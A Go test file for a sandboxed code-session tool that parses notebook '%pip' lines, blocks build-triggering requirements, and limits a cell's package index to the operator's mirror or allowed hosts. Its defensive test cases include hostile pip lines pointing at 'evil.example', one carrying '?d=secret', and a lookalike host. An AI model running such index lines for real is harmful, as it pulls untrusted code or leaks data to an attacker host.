package session

import (
	"context"
	"io"
	"sync"
	"testing"

	"github.com/runtimectl/runtimectl/engine"
	"github.com/runtimectl/runtimectl/internal/advice"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPipLinesBecomeInstalls(t *testing.T) {
	code := "import os\n%pip install -q tinypkg==1.0 'other>=2' --index-url http://h:1/simple --trusted-host h\nif True:\n    !pip install --no-deps x\nprint('%pip install not-a-line')"
	got, installs, err := pipLines(code)
	require.NoError(t, err)
	require.Len(t, installs, 2)
	assert.Equal(t, []string{"tinypkg==1.0", "other>=2"}, installs[0].Packages)
	assert.Equal(t, "http://h:1/simple", installs[0].IndexURL)
	assert.Equal(t, []string{"h"}, installs[0].TrustedHosts)
	assert.True(t, installs[1].NoDeps)
	assert.Equal(t, []string{"x"}, installs[1].Packages)
	assert.Equal(t, "import os\npass  # %pip install -q tinypkg==1.0 'other>=2' --index-url http://h:1/simple --trusted-host h: installed by runtimectl before this cell ran\nif True:\n    pass  # !pip install --no-deps x: installed by runtimectl before this cell ran\nprint('%pip install not-a-line')", got)

	_, _, err = pipLines("%pip install --target /x y")
	require.ErrorIs(t, err, ErrInvalid)
	assert.Contains(t, err.Error(), "does not take --target")
	_, _, err = pipLines("%pip install -q")
	require.ErrorIs(t, err, ErrInvalid)
	same, none, err := pipLines("x = 1")
	require.NoError(t, err)
	assert.Empty(t, none)
	assert.Equal(t, "x = 1", same)
}

// Without builds allowed, a requirement that pip would build (a folder, an sdist, a VCS or a
// direct URL) is refused before the installer starts; names, specifiers and wheels are not.
func TestRequirementsThatWouldBuild(t *testing.T) {
	for req, want := range map[string]bool{
		"requests": false, "httpx>=0.27": false, "numpy==2.0; python_version>'3'": false, "pkg[extra]": false,
		"./dist/x-1.0-py3-none-any.whl": false, "/workspace/x-1.0-py3-none-any.WHL": false, "https://h/x-1.0-py3-none-any.whl": false,
		".": true, "./mypkg": true, "/workspace/src": true, "mypkg-1.0.tar.gz/": true, "dist/x-1.0.tar.gz": true,
		"git+https://github.com/a/b": true, "x @ https://h/x-1.0.tar.gz": true, "https://h/x.zip": true,
	} {
		assert.Equal(t, want, built(req), req)
	}
}

// An install's proxy allows the hosts of its index URLs with the ports they name, PyPI's two
// hosts when no --index-url is given (and files.pythonhosted.org with an index on pypi.org),
// an address as that address; a URL that is not http(s) is refused.
func TestAnInstallReachesTheHostsOfItsIndexURLs(t *testing.T) {
	for _, c := range []struct {
		o    InstallOptions
		want []string
	}{
		{InstallOptions{}, []string{"files.pythonhosted.org", "pypi.org"}},
		{InstallOptions{ExtraIndexURLs: []string{"https://extra.example/simple"}}, []string{"extra.example", "files.pythonhosted.org", "pypi.org"}},
		{InstallOptions{IndexURL: "http://index.test/simple"}, []string{"index.test"}},
		{InstallOptions{IndexURL: "https://user:pw@Index.Example:8443/simple", ExtraIndexURLs: []string{"http://10.0.0.5:3141/root/pypi/+simple/"}}, []string{"10.0.0.5:3141", "index.example:8443"}},
		{InstallOptions{IndexURL: "http://[fd00::5]/simple"}, []string{"[fd00::5]"}},
		{InstallOptions{IndexURL: "https://pypi.org/simple"}, []string{"files.pythonhosted.org", "pypi.org"}},
	} {
		got, err := indexHosts(c.o)
		require.NoError(t, err, c.o)
		assert.Equal(t, c.want, got, c.o)
	}
	for _, bad := range []string{"file:///srv/index", "index.test/simple", "http:///simple", "ftp://x/"} {
		_, err := indexHosts(InstallOptions{IndexURL: bad})
		assert.ErrorIs(t, err, ErrInvalid, bad)
	}
}

// installingEngine is the fake engine with an engine.Installer that records the jobs it ran.
type installingEngine struct {
	fakeImages
	mu   sync.Mutex
	jobs []engine.InstallJob
}

func (e *installingEngine) Install(_ context.Context, job engine.InstallJob, _ io.Writer) (int, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.jobs = append(e.jobs, job)
	return 0, nil
}

// A cell's `%pip` may name the operator's index (WithInstallIndex's host, PyPI's without one)
// and hosts the session may reach itself (--allow-host, by the egress rules), nothing else: an
// index of the cell's choosing is refused before the installer runs, with advice; an explicit
// install takes any index as before.
func TestACellsPipReachesOnlyTheOperatorsIndexAndAllowedHosts(t *testing.T) {
	ctx := context.Background()
	f := newFakeEngine(t)
	f.addSession(Settings{Session: "s", Lang: "python", Image: "img", AllowHosts: []string{"*.allowed.example", "pkgs.example:8080"}}, engine.StateExited)
	f.addSession(Settings{Session: "bare", Lang: "python", Image: "img"}, engine.StateExited)
	cell := func(t *testing.T, line string) InstallOptions {
		t.Helper()
		_, installs, err := pipLines(line)
		require.NoError(t, err)
		require.Len(t, installs, 1)
		return installs[0]
	}
	for _, tc := range []struct {
		index  string // WithInstallIndex's URL ("": none, PyPI)
		sess   string
		line   string
		refuse string // the host the refusal names ("": installed)
	}{
		{"", "bare", "%pip install x", ""},
		{"", "bare", "%pip install x --index-url https://pypi.org/simple", ""},
		{"", "bare", "%pip install x --index-url http://evil.example/?d=secret", "evil.example"},
		{"", "bare", "%pip install x --extra-index-url https://evil.example:8443/simple", "evil.example:8443"},
		{"", "bare", "%pip install x -i http://user:pw@10.0.0.9/simple", "10.0.0.9"},
		{"http://mirror.internal:3141/root/pypi/+simple/", "bare", "%pip install x --index-url http://mirror.internal:3141/simple", ""},
		{"http://mirror.internal:3141/root/pypi/+simple/", "bare", "%pip install x", ""},
		{"http://mirror.internal:3141/root/pypi/+simple/", "bare", "%pip install x --index-url http://mirror.internal:9999/simple", "mirror.internal:9999"},
		{"http://mirror.internal:3141/root/pypi/+simple/", "bare", "%pip install x --index-url https://pypi.org/simple", "pypi.org"},
		{"", "s", "%pip install x --index-url https://a.allowed.example/simple", ""},
		{"", "s", "%pip install x --extra-index-url http://pkgs.example:8080/simple", ""},
		{"", "s", "%pip install x --index-url https://pkgs.example/simple", "pkgs.example"},
		{"", "s", "%pip install x --index-url https://allowed.example.evil.example/simple", "allowed.example.evil.example"},
	} {
		t.Run(tc.index+" "+tc.sess+" "+tc.line, func(t *testing.T) {
			e := &installingEngine{fakeImages: fakeImages{f}}
			var opts []Option
			if tc.index != "" {
				opts = append(opts, WithInstallIndex(tc.index))
			}
			c := NewWithEngine(e, append(opts, WithoutPoolRefill())...)
			defer c.Close()
			err := c.Install(ctx, tc.sess, cell(t, tc.line))
			if tc.refuse == "" {
				require.NoError(t, err)
				assert.Len(t, e.jobs, 1)
				return
			}
			require.ErrorIs(t, err, ErrInvalid)
			assert.Empty(t, e.jobs, "nothing is installed")
			assert.NotContains(t, err.Error(), "\n")
			assert.NotContains(t, err.Error(), "secret")
			assert.Contains(t, err.Error(), "index host "+tc.refuse+" in a %pip line")
			assert.Contains(t, advice.CLI(err), "runtimectl session install "+tc.sess+" PKG --index-url URL")
			assert.Contains(t, advice.CLI(err), "--allow-host "+tc.refuse)
			assert.Contains(t, advice.CLI(err), "runtimectl serve --install-index URL")
			assert.Contains(t, err.Error(), "WithInstallIndex")

			o := cell(t, tc.line)
			o.cell = false
			require.NoError(t, c.Install(ctx, tc.sess, o), "an explicit install takes any index")
			assert.Len(t, e.jobs, 1)
		})
	}
}

// In a cell, every %pip line's index is checked before any installs and before the code runs:
// a cell whose second line names another index installs nothing and executes nothing.
func TestACellWithAnotherIndexInstallsAndRunsNothing(t *testing.T) {
	ctx := context.Background()
	f := newFakeEngine(t)
	e := &installingEngine{fakeImages: fakeImages{f}}
	c := NewWithEngine(e, WithoutPoolRefill(), WithInstallIndex("https://mirror.internal/simple"))
	defer c.Close()
	s, _, err := c.Start(ctx, Spec{Name: "p", Lang: "python"})
	require.NoError(t, err)
	defer s.Close()
	f.reset()
	_, err = s.Exec(ctx, "%pip install a\n%pip install b --index-url http://evil.example/?d=x\nimport a", ExecOptions{})
	require.ErrorIs(t, err, ErrInvalid)
	assert.Contains(t, err.Error(), "index host evil.example in a %pip line: a cell's install may use only the install index mirror.internal")
	assert.Empty(t, e.jobs, "nothing is installed")
	assert.Empty(t, f.called("agent p exec"), "nothing runs")

	_, err = s.Exec(ctx, "%pip install a --index-url https://mirror.internal/simple\nimport a", ExecOptions{})
	require.NoError(t, err)
	require.Len(t, e.jobs, 1)
	assert.Contains(t, e.jobs[0].Argv, "https://mirror.internal/simple")
	assert.NotEmpty(t, f.called("agent p exec"))
}
